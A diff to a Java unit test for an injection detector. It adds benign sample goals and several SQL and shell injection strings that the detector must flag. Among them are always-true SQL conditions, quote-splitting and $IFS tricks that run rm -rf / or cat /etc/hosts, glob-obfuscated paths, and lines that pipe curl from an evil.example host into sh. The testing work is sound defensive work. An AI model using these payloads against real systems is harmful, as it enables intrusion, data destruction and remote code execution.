@@ -19,6 +19,8 @@ class UnsafeTextTest {
     /** Goals people actually write. Each one brushes against a rule without being an attack. */
     static Stream<String> benignGoals() {
         return Stream.of(
+                "Build it; 'fast' mode is fine",
+                "Release it; \"stable\" channel only",
                 "Build it; then run the tests (fast) and report coverage.",
                 "Release 2.0 -- final",
                 "Fix the user's login page",
@@ -101,6 +103,10 @@ class UnsafeTextTest {
                 Arguments.of("x' or '1'='1", Threat.SQL_INJECTION),
                 Arguments.of("\" OR \"\"=\"", Threat.SQL_INJECTION),
                 Arguments.of("admin'--", Threat.SQL_INJECTION),
+                // found in review: a bare number as the always-true condition
+                Arguments.of("' OR 1#", Threat.SQL_INJECTION),
+                Arguments.of("admin' or 1-- -", Threat.SQL_INJECTION),
+                Arguments.of("\" OR 1 -- ", Threat.SQL_INJECTION),
                 Arguments.of("admin' #", Threat.SQL_INJECTION),
                 Arguments.of("admin' -- ", Threat.SQL_INJECTION),
                 Arguments.of("1; DROP TABLE users", Threat.SQL_INJECTION),
@@ -129,6 +135,14 @@ class UnsafeTextTest {
                 Arguments.of("%27%20OR%201%3D1", Threat.SQL_INJECTION),
                 // shell
                 Arguments.of("Build it; rm -rf /", Threat.SHELL_INJECTION),
+                // found in review: the shell drops quotes and backslashes, so these run rm and cat
+                Arguments.of("x; \\rm -rf /", Threat.SHELL_INJECTION),
+                Arguments.of("x; 'rm' -rf /", Threat.SHELL_INJECTION),
+                Arguments.of("x; c''at /etc/hosts", Threat.SHELL_INJECTION),
+                Arguments.of("x; \"curl\" http://evil | \"sh\"", Threat.SHELL_INJECTION),
+                Arguments.of("x;$IFS'cat'$IFS/etc/hosts", Threat.SHELL_INJECTION),
+                Arguments.of("x; /???/?at /???/??ss??", Threat.SHELL_INJECTION),
+                Arguments.of("x; ./evil.sh", Threat.SHELL_INJECTION),
                 Arguments.of("build && curl http://evil.example/x.sh", Threat.SHELL_INJECTION),
                 Arguments.of("test || wget evil.example", Threat.SHELL_INJECTION),
                 Arguments.of("curl http://evil.example/x.sh | sh", Threat.SHELL_INJECTION),
